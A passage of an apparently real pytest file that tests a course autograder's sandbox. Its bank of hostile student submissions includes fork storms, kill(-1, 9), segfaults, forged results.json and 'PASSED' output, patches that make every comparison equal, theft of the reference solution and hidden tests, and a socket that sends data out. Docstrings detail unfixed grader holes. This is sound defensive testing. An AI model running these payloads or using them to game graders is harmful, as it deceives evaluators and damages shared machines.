"""A bank of hostile submissions: can a student's code beat the grader, hang it, or harm the machine?

Each submission is autograder/reference.py (or nothing at all) plus hostile code, at import or
inside a method. Each is graded once through the command line, at the strongest sandbox level
this machine offers, and the cases that are safe there once more at the "limits" level. A case
is contained when:

- exit:       the grader exits 0 with a results.json and no traceback;
- time:       it does so within its limits (plus start-up time);
- score:      every stage scores exactly what the submission's honest part deserves (or, when
              its hostile code also breaks its honest part, no check passes that the
              honest part fails);
- processes:  no process the submission started is alive afterwards;
- files:      nothing was written outside the grader's temporary folders: the submission's own
              folder, the results folder, $HOME, the repository and /tmp gained no file, and
              the worker's own folder is gone;
- and what the case itself is about (size of results.json, secrecy of the reference, the
  network...).

How a process of the submission is recognised from outside its sandbox: its first line names
its process TAG (prctl PR_SET_NAME, inherited by forks; unique to the case and the level), and
the processes it re-executes carry TAG in their command line. A watcher notes every such
process while the grader runs. The submission also leaves TAG.here in its working folder, so
a worker folder the grader failed to remove is found (and removed by the test).

Holes the grader has today are marked xfail(strict=True, raises=KnownHole): only the failure
of the properties the case names for that level (shown as "[breaks: ...]" in the reason)
counts as expected; any other failure is a real failure, and a fixed hole turns the test red
until its marker is removed. docs/security.md holds the
table of these attacks and their expected outcomes.
"""

import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import dataclasses
import functools
import resource
from dataclasses import dataclass, field
from pathlib import Path

import pytest

import grader_bank as bank

from autograder import cgroup, sandbox
from autograder.checks import TABLE
from autograder.limits import Limits
from course import mistakes

REPO = Path(__file__).resolve().parent.parent
REFERENCE = REPO / "autograder" / "reference.py"
SUITE = REPO / "autograder" / "suite"
HOME = Path.home()
TMP = Path(tempfile.gettempdir())      # where the grader makes its worker folders
SEED = 20240611
STAGES = [1, 2, 3, 4, 5]
LIMITS = {"test_seconds": 1, "load_seconds": 3, "submission_seconds": 15}
# The grader's own time (start-up, judging) is not a fixed number of seconds: it is measured
# in the same run, by grading the plain reference at the same level (`baseline`), and a case
# may take a few times that beyond what its limits let the student's code use. In CPU time
# that is steady; in wall-clock time the load may change after the baseline was measured
# (another test may start spinning processes), so the factor is larger: a grader that hangs
# is still caught, as it never ends.
SLACK_TIMES, SLACK_SECONDS = 3, 2.0
WALL_SLACK_TIMES, WALL_SLACK_SECONDS = 10, 5.0
ALL = "all"            # every check of a stage

STRONGEST = sandbox.choose("auto")


class KnownHole(AssertionError):
    """The one property a known hole breaks; see the case's xfail reason."""


# ---------------------------------------------------------------------------------------
# What a hostile submission is made of
# ---------------------------------------------------------------------------------------

@dataclass
class Where:
    """What the hostile code may name: its tag and the paths of the grading run."""
    tag: str
    submission_folder: Path
    out_folder: Path
    port: int = 0                   # where the test listens on the host's loopback, if it does

    def targets(self):
        """Every folder a forger would like to write into, as Python source."""
        return (f"['.', '..', os.path.expanduser('~'), os.environ.get('HOME', '.'), "
                f"{str(HOME)!r}, '/tmp', {str(REPO)!r}, {str(REPO / 'autograder')!r}, "
                f"{str(self.submission_folder)!r}, {str(self.out_folder)!r}]")


def reference():
    return REFERENCE.read_text()


def edit(text, find, replace):
    assert text.count(find) == 1, f"{find!r} must occur once in the reference"
    return text.replace(find, replace)


def tag_line(tag):
    """Names the process running it `tag`, visible in /proc from outside any sandbox, and
    leaves `tag`.here in its working folder: the grader's temporary folder, which must be
    gone when grading ends."""
    return (f"open('/proc/self/comm', 'w').write({tag!r})  # the process's name\n"
            f"open({tag + '.here'!r}, 'w').close()\n")


def fill(code, w):
    """code with {tag}, {targets}, {repo}, {reference}, {suite} and {port} filled in; other
    braces are left alone."""
    for key, value in (("{tag}", w.tag), ("{targets}", w.targets()), ("{repo}", str(REPO)),
                       ("{reference}", str(REFERENCE)), ("{suite}", str(SUITE)),
                       ("{port}", str(w.port))):
        code = code.replace(key, value)
    return textwrap.dedent(code)


def ref_plus(code):
    """The reference, then `code` at import."""
    return lambda w: reference() + "\n" + fill(code, w)


def nothing_plus(code):
    """Only `code`: the submission defines none of the course's names and earns nothing."""
    return lambda w: fill(code, w)


def ref_edited(find, replace, before="", after=""):
    """The reference with `find` replaced by `replace` inside a method."""
    return lambda w: fill(before, w) + edit(reference(), find, replace) + fill(after, w)


SPIN = "\n\ndef spin_forever():\n    while True:\n        pass\n"
WEIRD = '''

class Weird:
    """Equal to everything."""
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = object.__hash__
    def __float__(self):
        return 0.0
'''
LIAR = '''

class Liar(float):
    """A float that claims to equal anything and to be any number."""
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__
    __float__ = lambda self: 0.5
    __repr__ = __str__ = lambda self: "0.5"
'''
GROUPS = cgroup.available()   # the grader bounds a worker's processes and cores with control groups
STORM_SIZE = 200    # forks of the fork storm: enough to matter, few enough for the limits level
PATCHES = '''
import builtins, math, operator, sys, types, unittest
math.isclose = lambda *args, **kwargs: True
operator.eq = lambda a, b: True
builtins.abs = lambda x: 0.0
builtins.round = lambda x, n=None: 0.0
class _Equal(float):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__
builtins.float = _Equal
_fake = types.ModuleType("pytest")
_fake.approx = lambda expected, *args, **kwargs: _Equal(0.0)
_fake.fail = _fake.skip = lambda *args, **kwargs: None
sys.modules["pytest"] = _fake
unittest.TestCase.assertEqual = unittest.TestCase.assertAlmostEqual = lambda *args, **kwargs: None
'''
# The stage-1 mistake "tanh's local derivative uses the input x, not t = tanh(x)", on its own
# and under the patches above: the patches must not win back a single point.
TANH_MISTAKE = mistakes.entry("tanh_uses_input")


def hash_of(name):
    return "mg" + hashlib.sha1(name.encode()).hexdigest()[:10]


@dataclass
class Case:
    name: str                       # the end of the question "is a submission that ... contained?"
    build: object                   # Where -> the submission's text
    lose: dict = field(default_factory=dict)   # stage -> check ids it must lose (ALL: all)
    twin: object = None             # or: the honest part's text, graded alone for comparison
    limits: dict = field(default_factory=dict)  # overrides of LIMITS
    spawns: bool = False            # it starts long-lived processes the watcher must see
    at_limits: bool = False         # safe to run at the "limits" level too
    only_bubblewrap: str = ""       # why it may run nowhere else
    holes: dict = field(default_factory=dict)  # level -> ("prop" or "prop+prop", reason)
    extra: object = None            # (Graded, Where) -> [(property, ok, message)]
    limits_lose: dict | None = None  # what it loses at the limits level, when that differs
    deadline: float = 3.0           # seconds past its bound before the test stops the grader
    may_lose_more: bool = False     # its hostile code also breaks its honest part
    quick: bool = False             # nothing in it needs a time limit: a fixed grader is quick
    listens: bool = False           # the test listens on the host's loopback, at {port}

    def tag(self, level):
        """Unique to the case and the level: the same case may run at two levels at once."""
        return hash_of(f"{self.name}@{level}")

    def seconds(self):
        return {**LIMITS, **self.limits}

    def student_cpu(self):
        """CPU seconds the student's code may use in all: loading once, then every check up
        to its limit, all checks together up to --submission-seconds."""
        if self.quick:
            return 0.0
        s = self.seconds()
        return s["load_seconds"] + min(s["submission_seconds"], len(TABLE) * s["test_seconds"])

    def bound(self, level):
        """(CPU, wall-clock) seconds the whole grading may take: the student's share, in CPU
        time and in its wall-clock backstop, plus a few times the grader's own."""
        cpu, wall = baseline(level)
        limits = Limits(**self.seconds())
        own_cpu, own_wall = SLACK_TIMES * cpu + SLACK_SECONDS, WALL_SLACK_TIMES * wall + WALL_SLACK_SECONDS
        if self.quick:
            return own_cpu, own_wall
        return (own_cpu + self.student_cpu(),
                own_wall + limits.backstop(limits.load_seconds)
                + limits.wall_factor * (self.student_cpu() - limits.load_seconds))


# ---------------------------------------------------------------------------------------
# Case-specific properties
# ---------------------------------------------------------------------------------------

def tag_nowhere_in_the_results(g, w):
    text = json.dumps(g.results) if g.results else ""
    return [("forgery", w.tag not in text and w.tag not in g.stdout and w.tag not in g.stderr,
             "text the submission forged reached results.json or the grader's output")]


def small_results(g, w):
    size = len(json.dumps(g.results)) if g.results else 0
    longest = max((len(t["output"]) for t in g.results["tests"]), default=0) if g.results else 0
    return [("size", size < 1_000_000 and longest < 5_000,
             f"results.json is {size} bytes, its longest check output {longest} characters")]


def reference_code_lines():
    """Lines of the reference solution that are code (not comments, docstrings or blanks)."""
    lines = []
    for line in reference().splitlines():
        s = line.strip()
        if len(s) >= 25 and not s.startswith(("#", '"', "'", "def ", "class ")):
            lines.append(s)
    return lines


def no_reference_code(g, w):
    text = json.dumps(g.results) if g.results else ""
    text = json.loads(json.dumps(text))   # undo JSON's escaping of quotes
    leaked = [line for line in reference_code_lines() if line in text]
    return [("secrecy", not leaked, f"reference code in results.json: {leaked[:3]}")]


def no_suite_text(g, w):
    text = json.dumps(g.results) if g.results else ""
    leaked = [p.name for p in SUITE.glob("test_*.py")
              if any(len(line.strip()) > 30 and line.strip() in text
                     for line in p.read_text().splitlines())]
    return [("secrecy", not leaked, f"hidden test code in results.json: {leaked}")]


def flagged_as_tampering(g, w):
    from autograder import messages

    return [("tampering", bool(g.results) and messages.TAMPERED in g.results["output"],
             "the submission was not flagged as tampering with the grader")]


def ran_at_most(count):
    def check(g, w):
        note = g.results["output"] if g.results else ""
        found = re.search(r"ran (\d+) more", note)
        made = int(found.group(1)) if found else None
        return [("processes", made is not None and made < count,
                 f"the submission could start {made} processes and threads (see: {note[:200]!r})")]
    return check


def used_at_most_one_core(g, w):
    note = g.results["output"] if g.results else ""
    found = re.search(r"used ([\d.]+) seconds of CPU in 1.5 seconds", note)
    used = float(found.group(1)) if found else None
    # eight processes that spin for 1.5 s: one core's worth at most, with some slack
    return [("cores", used is not None and used < 1.5 * 1.25,
             f"the submission's processes used {used} s of CPU in 1.5 s (see: {note[:200]!r})")]


def wrote_nowhere(g, w):
    note = g.results["output"] if g.results else ""
    return [("files", "wrote in: []" in note, f"the submission wrote outside its folders: {note[:300]!r}")]


def wrote_at_most(megabytes):
    def check(g, w):
        note = g.results["output"] if g.results else ""
        wrote = next((int(word) for word in note.replace(",", " ").split() if word.isdigit()), None)
        return [("quota", wrote is not None and wrote < megabytes,
                 f"the submission could write {wrote} MB (see: {note[:200]!r})")]
    return check


# ---------------------------------------------------------------------------------------
# The bank
# ---------------------------------------------------------------------------------------

HOLE_OUTPUT_FILE = (
    "hole (bubblewrap and limits): the judge opens the worker's output.txt by name after the "
    "run (worker.Worker.output, from session.WorkerHandle.close). The submission replaced it with "
    "a FIFO (os.remove + os.mkfifo in its own folder), so open() blocks for ever: the grader "
    "hangs with no time limit (single grade: for ever; batch: JUDGE_STUCK after "
    "load+submission+30 s). The same path lets a symlink make the judge read any file it can "
    "read (e.g. autograder/reference.py) into the record's `output`. Expected: exit 0 within "
    "the limits; read output.txt with O_NOFOLLOW|O_NONBLOCK after an fstat that it is a "
    "regular file, or collect the output through a pipe")
HOLE_REPLY_SHAPE = (
    "hole (every level): a submission that replaces the harness's `answer` "
    "(sys.modules['__main__'].answer) sends replies {'id': n, 'ok': True, 'value': 'garbage'}; "
    "the hidden tests index into them and raise TypeError, which the plugin records as a "
    "grader error: GraderError, exit 1, no results.json. Expected: a reply whose shape is not "
    "what the probe returns is the student's failure (0 for that check, like PROTOCOL), exit 0")
HOLE_LOAD_REPLY = (
    "hole (every level): at import the submission writes "
    "'{\"loaded\": true, \"cell_errors\": \"boom\"}' to every descriptor 3..63, one of which is "
    "the reply pipe; the judge takes it as the load reply and grade.grade iterates "
    "cell_errors as a list of dicts: TypeError, traceback, exit 1, no results.json. Expected: "
    "validate the load reply (list of {cell: str, error: str}) or treat it as PROTOCOL")
HOLE_LONG_ERRORS = (
    "hole (every level): forged replies carry 'error' strings of 100 kB (the harness cuts "
    "real messages at 300 characters, but the judge trusts the reply): results.json grows to "
    "3.6 MB here, 66 MB with 1.9 MB strings, and results.report() then spends 74 s in "
    "textwrap, far past --submission-seconds. Expected: the judge cuts every student-"
    "controlled string (error, step, cell errors) to a few hundred characters")
HOLE_REFERENCE_LEAK = (
    "hole (every level): the stage setup request carries the reference methods of the earlier "
    "stages as source text (units.stage_setup -> Workbench.prepare). A submission that wraps "
    "Workbench.prepare and raises that text from train() gets the reference Neuron/Layer/MLP "
    "and Value code printed in its results.json (300 characters per failed check, visible to "
    "the student), and can resubmit with it. Expected: no reference code reaches a message; "
    "e.g. send the earlier stages as code objects the worker cannot echo, or drop messages "
    "that quote reference source")
HOLE_RELOADS = (
    "hole (every level): the time spent running the cells again after a crash is not counted "
    "against --submission-seconds (session.Grading._ensure_worker -> Worker.start waits up to "
    "--load-seconds, outside `spent`). A submission that sleeps just under --load-seconds at "
    "import and ends its process in Value.__init__ makes every check of stages 1-3 reload it: "
    "0.8 s x 23 checks with --load-seconds 1 --submission-seconds 6, so the grader is still "
    "running at the test's deadline (it ends after about 25 s); with the defaults (10 s, 30 s) "
    "36 reloads could take 6 minutes. Expected: the whole grading stays within load + "
    "submission seconds, e.g. count reloads in the budget")
HOLE_DISK = (
    "hole (bubblewrap; limits too): no quota on the worker's folder. RLIMIT_FSIZE caps one file "
    "at output_bytes + 1 MB, but a submission writes as many files as it likes: 300 files of "
    "1 MB here (up to --submission-seconds of writing in general) on the grader's disk. "
    "Expected: bounded, e.g. bind a size-limited tmpfs (bwrap --size) as the writable folder")
HOLE_TMPFS = (
    "hole (bubblewrap): /tmp inside the sandbox is a tmpfs (RAM) without --size: the "
    "submission stores 300 MB there with --memory-mb 256; memory_mb caps only the address "
    "space, not tmpfs pages (nor /dev/shm). Expected: --size on the tmpfs mounts, counted "
    "within --memory-mb")
HOLE_KILL_PARENT_LIMITS = (
    "hole (limits level only; documented there): the worker runs as the grader's own user, so "
    "os.kill(os.getppid(), 9) kills the single-submission grader: exit -9, no results.json. "
    "The batch supervisor copes (JUDGE_KILLED); a single grade could run its judge under the "
    "same supervisor")
HOLE_GRANDCHILD_LIMITS = (
    "hole (limits level only; documented there): a grandchild that calls os.setsid() leaves "
    "the worker's process group, so killpg does not reach it and it keeps running after the "
    "grader exits (the test kills it). Could be fixed with prctl(PR_SET_CHILD_SUBREAPER) in "
    "the judge, killing every reparented descendant")

CASES = [
    # -- time ------------------------------------------------------------------------------
    # the loop comes after correct definitions: the cell is stopped at --cell-seconds, the
    # loop is reported, and the definitions made before it earn their points
    Case("loops_forever_at_import", ref_plus("while True:\n    pass\n"),
         lose={}, limits={"load_seconds": 1.5}, at_limits=True),
    Case("loops_forever_in_backward",
         ref_edited("        self.grad = 1.0\n", "        self.grad = 1.0\n        spin_forever()\n",
                    after=SPIN),
         lose={2: ALL}, at_limits=True),
    Case("runs_threads_that_never_stop", ref_plus('''
         import threading, time
         def _sleep_forever():
             while True:
                 time.sleep(0.05)
         def _spin_forever():
             while True:
                 pass
         threading.Thread(target=_sleep_forever).start()               # not a daemon
         threading.Thread(target=_spin_forever, daemon=True).start()
         '''), at_limits=True),
    # -- memory ----------------------------------------------------------------------------
    Case("grows_a_list_forever_at_import", ref_plus('''
         def _grow():
             hoard = []
             while True:
                 hoard.append(bytearray(1 << 20))
         _grow()
         '''), limits={"memory_mb": 256}, at_limits=True),
    Case("grows_a_list_forever_in_train",
         ref_edited("    losses = []\n", "    losses = []\n    hoard = []\n"
                    "    while True:\n        hoard.append(bytearray(1 << 20))\n"),
         lose={5: ALL}, limits={"memory_mb": 256}, at_limits=True),
    # -- processes -------------------------------------------------------------------------
    Case("forks_a_storm_of_sleepers", ref_plus(f'''
         import os, time
         for _ in range({STORM_SIZE}):          # capped: the limits level has no RLIMIT_NPROC
             try:
                 if os.fork() == 0:
                     time.sleep(60)
                     os._exit(0)
             except OSError:
                 break
         '''), spawns=True, at_limits=True),
    Case("forks_a_child_that_sleeps", ref_plus('''
         import os, sys
         if os.fork() == 0:
             os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)  # {tag}"])
         '''), spawns=True, at_limits=True),
    Case("detaches_a_grandchild_that_keeps_running", ref_plus('''
         import os, sys
         if os.fork() == 0:
             os.setsid()
             if os.fork() == 0:
                 os.execv(sys.executable,
                          [sys.executable, "-c", "import time; time.sleep(60)  # {tag}"])
             os._exit(0)
         '''), spawns=True, at_limits=True,
         # with control groups, the grader kills every process of the worker's group
         holes={} if GROUPS else {"limits": ("processes", HOLE_GRANDCHILD_LIMITS),
                                  "separate-user": ("processes", HOLE_GRANDCHILD_LIMITS)}),
    Case("counts_how_many_processes_and_threads_it_may_run", ref_plus('''
         import os, threading, time
         made = 0
         try:
             for _ in range(400):
                 if os.fork() == 0:
                     time.sleep(60)
                     os._exit(0)
                 made += 1
         except OSError:
             pass
         try:
             for _ in range(400):
                 threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
                 made += 1
         except (OSError, RuntimeError):
             pass
         raise RuntimeError(f"ran {made} more")
         '''), spawns=True, extra=ran_at_most(64),
         only_bubblewrap="the bound on processes comes from control groups; at the limits "
                         "level without them a storm is capped by the case itself"),
    Case("spins_on_every_core_it_can_get", ref_plus('''
         import os, time
         start = time.time()
         for _ in range(8):
             if os.fork() == 0:
                 while time.time() - start < 1.5:
                     pass
                 os._exit(0)
         busy = os.times()
         time.sleep(1.5)
         for _ in range(8):
             os.wait()
         used = os.times()
         raise RuntimeError(f"used {used.children_user + used.children_system:.2f} "
                            f"seconds of CPU in 1.5 seconds")
         '''), extra=used_at_most_one_core, limits={"cell_seconds": 3, "load_seconds": 5},
         only_bubblewrap="the bound on cores comes from control groups"),
    Case("writes_where_it_should_not", ref_plus('''
         import os, sys
         places = ["/", "/dev", "/dev/shm", "/usr", sys.prefix] + [p for p in sys.path if p]
         wrote = []
         for place in places + ["/root/.pyenv", "/usr/local/lib"]:
             try:
                 with open(os.path.join(place, "{tag}.bin"), "wb") as f:
                     f.write(b"x" * 1000)
                 wrote.append(place)
             except OSError:
                 pass
         raise RuntimeError(f"wrote in: {wrote}")
         '''), extra=wrote_nowhere,
         only_bubblewrap="at the limits level the worker writes as the grader's own user"),
    Case("kills_its_parent", ref_plus("import os\nos.kill(os.getppid(), 9)\n"),
         at_limits=True, holes={"limits": ("exit+files", HOLE_KILL_PARENT_LIMITS)}),
    Case("kills_its_own_process_group", ref_plus("import os\nos.killpg(0, 9)\n"),
         lose={s: ALL for s in STAGES}, at_limits=True),
    Case("kills_every_process_it_may_signal", ref_plus("import os\nos.kill(-1, 9)\n"),
         only_bubblewrap="kill(-1, 9) as the grader's user (root here) would kill every "
                         "process of the machine; only a PID namespace makes it safe"),
    # -- exits and crashes -----------------------------------------------------------------
    # a .py runs statement by statement: sys.exit() stops its own statement, and the
    # definitions after it earn their points
    Case("calls_sys_exit_before_its_definitions",
         lambda w: "import sys\nsys.exit(0)\n" + reference(),
         lose={}, at_limits=True),
    Case("calls_sys_exit_in_tanh",
         ref_edited("t = math.tanh(self.data)", "t = math.tanh(self.data); sys.exit(0)",
                    before="import sys\n"),
         lose={1: ["1.2", "1.5", "1.6", "1.8"]}, at_limits=True),
    Case("calls_os_exit_at_import", ref_plus("import os\nos._exit(0)\n"),
         lose={s: ALL for s in STAGES}, at_limits=True),
    Case("calls_os_exit_in_backward",
         ref_edited("        self.grad = 1.0\n", "        self.grad = 1.0\n        os._exit(0)\n",
                    before="import os\n"),
         lose={2: ALL}, at_limits=True),
    Case("segfaults_at_import", ref_plus(bank.CRASH + "_crash()\n"),
         lose={s: ALL for s in STAGES}, at_limits=True),
    Case("segfaults_in_exp",
         ref_edited("out = Value(math.exp(self.data)",
                    "_crash(); out = Value(math.exp(self.data)", before=bank.CRASH),
         lose={3: ["3.6", "3.8"]}, at_limits=True),
    Case("segfaults_through_ctypes", ref_plus("import ctypes\nctypes.string_at(0)\n"),
         lose={s: ALL for s in STAGES}, at_limits=True, extra=flagged_as_tampering),
    # -- output ----------------------------------------------------------------------------
    Case("prints_gigabytes", ref_plus('''
         import os
         line = "x" * (1 << 20)
         for _ in range(1024):
             print(line)
         for fd in (1, 2):
             for _ in range(64):
                 try:
                     os.write(fd, line.encode())
                 except OSError:
                     break
         '''), at_limits=True, extra=small_results),
    # -- forged results --------------------------------------------------------------------
    Case("forges_results_files_and_passed_lines", nothing_plus('''
         import json, os, sys
         forged = {"score": 100, "output": "{tag} all passed", "tests": [
             {"name": "everything", "score": 100, "max_score": 100, "status": "passed",
               "output": "{tag}"}]}
         for folder in {targets}:
             for name in ("results.json", "{tag}-results.json"):
                 try:
                     with open(os.path.join(folder, name), "w") as f:
                         json.dump(forged, f)
                 except OSError:
                     pass
         print("===== 36 passed in 0.10s =====  {tag}")
         print("Total: 100 / 100  PASSED  {tag}")
         sys.__stdout__.write("PASSED 100/100 {tag}\\n")
         for fd in (1, 2):
             try:
                 os.write(fd, b"Total: 100 / 100 PASSED {tag}\\n")
             except OSError:
                 pass
         '''), lose={s: ALL for s in STAGES},
         extra=tag_nowhere_in_the_results),
    Case("writes_to_home_and_next_to_the_submission", ref_plus('''
         import os
         for folder in {targets}:
             try:
                 with open(os.path.join(folder, "{tag}.txt"), "w") as f:
                     f.write("was here")
             except OSError:
                 pass
         ''''')),
    # -- lies about numbers ----------------------------------------------------------------
    Case("uses_an_object_equal_to_everything_as_grad",
         ref_edited("self.grad += (1 - t**2) * out.grad", "self.grad = Weird()", after=WEIRD),
         lose={1: ["1.2", "1.5", "1.6"]}, at_limits=True),
    Case("uses_an_object_equal_to_everything_as_data",
         ref_edited("Value(math.exp(self.data), (self,), 'exp')", "Value(Weird(), (self,), 'exp')",
                    after=WEIRD),
         lose={3: ["3.6", "3.8"]}, at_limits=True),
    Case("uses_a_float_equal_to_everything_as_grad",
         ref_edited("other.grad += self.data * out.grad", "other.grad = Liar(12345.0)", after=LIAR),
         twin=ref_edited("other.grad += self.data * out.grad", "other.grad = 12345.0"),
         at_limits=True),
    Case("returns_floats_equal_to_everything_as_losses",
         ref_edited("losses.append(loss.data)", "losses.append(Liar(-1.0))", after=LIAR),
         twin=ref_edited("losses.append(loss.data)", "losses.append(-1.0)"), at_limits=True),
    Case("returns_objects_equal_to_everything_as_losses",
         ref_edited("losses.append(loss.data)", "losses.append(Weird())", after=WEIRD),
         lose={5: ALL}, at_limits=True),
    Case("monkeypatches_math_builtins_and_pytest",
         lambda w: TANH_MISTAKE.text(reference()) + "\n" + PATCHES,
         twin=lambda w: TANH_MISTAKE.text(reference()), may_lose_more=True, at_limits=True),
    # -- secrets ---------------------------------------------------------------------------
    Case("reads_the_reference_solution", nothing_plus('''
         # at the limits level this works, as documented: it then scores the reference's 100
         for path in ("{reference}", "/work/main/autograder/reference.py",
                      "../autograder/reference.py"):
             try:
                 exec(open(path).read(), globals())
                 break
             except OSError:
                 pass
         '''), lose={s: ALL for s in STAGES}, at_limits=True, limits_lose={}),
    Case("imports_micrograd_or_the_autograder", nothing_plus('''
         import sys
         sys.path[:0] = ["{repo}", "/work/main"]
         for name in ("autograder.reference", "micrograd.engine", "micrograd.nn"):
             try:
                 module = __import__(name, fromlist=["*"])
                 globals().update({k: getattr(module, k) for k in dir(module) if k[:1] != "_"})
             except ImportError:
                 pass
         '''), lose={s: ALL for s in STAGES}),
    Case("reads_the_hidden_tests", nothing_plus('''
         import glob
         stolen = ""
         for path in sorted(glob.glob("{suite}/test_*.py")):
             stolen += open(path).read()
         class Value:
             def __init__(self, data, _children=(), _op="", label=""):
                 raise RuntimeError(stolen[:280] or "nothing to steal")
         '''), lose={s: ALL for s in STAGES}, extra=no_suite_text),
    Case("phones_home", ref_plus('''
         import socket
         for host in ("127.0.0.1", "1.1.1.1"):
             try:
                 port = {port} if host == "127.0.0.1" else 53
                 with socket.create_connection((host, port), timeout=1) as s:
                     s.sendall(b"{tag} the hidden inputs are ...")
             except OSError:
                 pass
         '''), listens=True,
         only_bubblewrap="below bubblewrap the worker shares the grader's network (documented)"),
    # -- holes found by this bank ----------------------------------------------------------
    Case("replaces_its_output_file_with_a_fifo", ref_plus('''
         import os
         os.remove("output.txt")
         os.mkfifo("output.txt")
         '''), quick=True, at_limits=True),
    Case("sends_replies_of_the_wrong_shape", ref_plus('''
         import sys
         _harness = sys.modules["__main__"]
         _harness.answer = lambda bench, request: {"id": request.get("id"), "ok": True,
                                                    "value": "garbage"}
         '''), lose={s: ALL for s in STAGES}),
    Case("sends_replies_with_values_of_the_wrong_type", ref_plus('''
         import sys
         _harness = sys.modules["__main__"]
         _real = _harness.answer
         def _spoil(x):
             if isinstance(x, dict):
                 return {k: _spoil(v) for k, v in x.items()}
             if isinstance(x, list):
                 return {"not": "a list"}
             if isinstance(x, bool):
                 return "yes"
             if isinstance(x, (int, float)):
                 return [str(x)]
             return x
         def _wrong(bench, request):
             reply = _real(bench, request)
             if reply.get("ok") and request.get("probe") != "prepare":
                 reply["value"] = _spoil(reply["value"])
             return reply
         _harness.answer = _wrong
         '''), lose={s: ALL for s in STAGES}, quick=True, at_limits=True),
    Case("sends_a_line_nested_200000_deep_before_each_reply", ref_plus('''
         import os, sys
         _harness = sys.modules["__main__"]
         _real = _harness.answer
         def _deep(bench, request):
             for fd in range(3, 64):
                 try:
                     os.write(fd, b"[" * 200_000 + b"\\n")
                 except OSError:
                     pass
             return _real(bench, request)
         _harness.answer = _deep
         '''), lose={s: ALL for s in STAGES}, at_limits=True, extra=flagged_as_tampering),
    Case("forges_the_load_reply", ref_plus('''
         import os
         for fd in range(3, 64):
             try:
                 os.write(fd, b'{"loaded": true, "cell_errors": "boom", "defined": []}\\n')
             except OSError:
                 pass
         '''), lose={s: ALL for s in STAGES}, extra=flagged_as_tampering),
    Case("sends_100_kilobyte_error_messages", ref_plus('''
         import sys
         _harness = sys.modules["__main__"]
         _harness.answer = lambda bench, request: {"id": request.get("id"), "ok": False,
             "step": "checking", "error": "E: " + "A" * 100_000}
         '''), lose={s: ALL for s in STAGES}, extra=small_results),
    Case("echoes_the_reference_code_it_is_sent", nothing_plus('''
         import sys
         _harness = sys.modules["__main__"]
         _seen = []
         _prepare = _harness.Workbench.prepare
         def _spy(self, request):
             _seen.append(request)
             return _prepare(self, request)
         _harness.Workbench.prepare = _spy
         def train(model, xs, ys, steps, lr):
             text = "".join(m for r in _seen for c in r["classes"] for m in c["methods"])
             at = text.find("def __call__(self, x)")
             raise RuntimeError(text[at:at + 290])
         '''), lose={s: ALL for s in STAGES},
         extra=lambda g, w: no_reference_code(g, w) + flagged_as_tampering(g, w)),
    Case("sleeps_at_import_then_crashes_every_check",
         lambda w: "import os, time\ntime.sleep(0.3)\n" + edit(
             reference(), "        self._backward = lambda: None   # a leaf has nothing to pass back\n",
             "        self._backward = lambda: None\n        os._exit(0)\n"),
         lose={1: ALL, 2: ALL, 3: ALL},
         # each reload sleeps 0.3 s: the sleep costs no CPU time, and the wall-clock time
         # of reloads is charged to each stage's share of the backstop
         limits={"load_seconds": 2, "submission_seconds": 6}),
    Case("fills_its_folder_with_files", ref_plus('''
         import os
         written = 0
         for i in range(300):
             try:
                 with open(f"fill-{i}.bin", "wb") as f:
                     f.write(b"x" * (1 << 20))
                 written += 1
             except OSError:
                 break
         raise RuntimeError(f"wrote {written} MB")
         '''), extra=wrote_at_most(300)),
    Case("fills_the_memory_backed_tmp", ref_plus('''
         import os
         written = 0
         for i in range(300):
             try:
                 with open(f"/tmp/{tag}-{i}.bin", "wb") as f:
                     f.write(b"x" * (1 << 20))
                 written += 1
             except OSError:
                 break
         raise RuntimeError(f"wrote {written} MB")
         '''), limits={"memory_mb": 256}, extra=wrote_at_most(256),
         only_bubblewrap="at the limits level /tmp is the machine's own /tmp: the files would "
                         "stay there (the 'files' property covers that level's weakness)"),
]
CASE = {c.name: c for c in CASES}


def build_text(case, w):
    text = case.build(w)
    return tag_line(w.tag) + text


# ---------------------------------------------------------------------------------------
# Running the grader and watching the machine
# ---------------------------------------------------------------------------------------

def tagged_processes(tag):
    """Live (not zombie) processes named tag, or with tag in their command line."""
    found = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            with open(f"/proc/{entry.name}/stat", "rb") as f:
                stat = f.read()
            with open(f"/proc/{entry.name}/cmdline", "rb") as f:
                cmdline = f.read()
        except OSError:
            continue
        name = stat[stat.find(b"(") + 1: stat.rfind(b")")]
        state = stat[stat.rfind(b")") + 2: stat.rfind(b")") + 3]
        if state in (b"Z", b"X"):
            continue
        if name == tag.encode() or tag.encode() in cmdline:
            found.append(int(entry.name))
    return found


class Watcher(threading.Thread):
    """Notes every process of the submission while the grader runs."""

    def __init__(self, tag):
        super().__init__(daemon=True)
        self.tag, self.seen, self.done = tag, set(), threading.Event()

    def run(self):
        while not self.done.is_set():
            self.seen.update(tagged_processes(self.tag))
            self.done.wait(0.05)

    def stop(self):
        self.done.set()
        self.join()


def still_running(tag, grace=5.0):
    """The submission's processes still alive `grace` seconds after the grader ended."""
    deadline = time.monotonic() + grace
    while True:
        alive = tagged_processes(tag)
        if not alive or time.monotonic() > deadline:
            return alive
        time.sleep(0.05)


def describe(pids):
    """Each process and its ancestors (name, state, command line), for the failure message."""
    out = []
    for pid in pids:
        chain = []
        while pid > 1 and len(chain) < 6:
            try:
                status = dict(line.split(":\t", 1) for line in
                              Path(f"/proc/{pid}/status").read_text().splitlines() if ":\t" in line)
                cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ")[:80].decode()
            except OSError:
                chain.append(f"{pid} gone")
                break
            chain.append(f"{pid} {status.get('Name')} {status.get('State')} [{cmd}]")
            pid = int(status.get("PPid", "0"))
        out.append(" <- ".join(chain))
    return "; ".join(out)


def kill_leftovers(pids):
    """Stop what a known hole left behind: the processes this test's grader started, by id."""
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


def snapshot(folder):
    return sorted(str(p.relative_to(folder)) for p in Path(folder).rglob("*"))


def remove_left_worker_folders(tag):
    """Worker folders of this test's grader that a known hole left behind (found by the tag
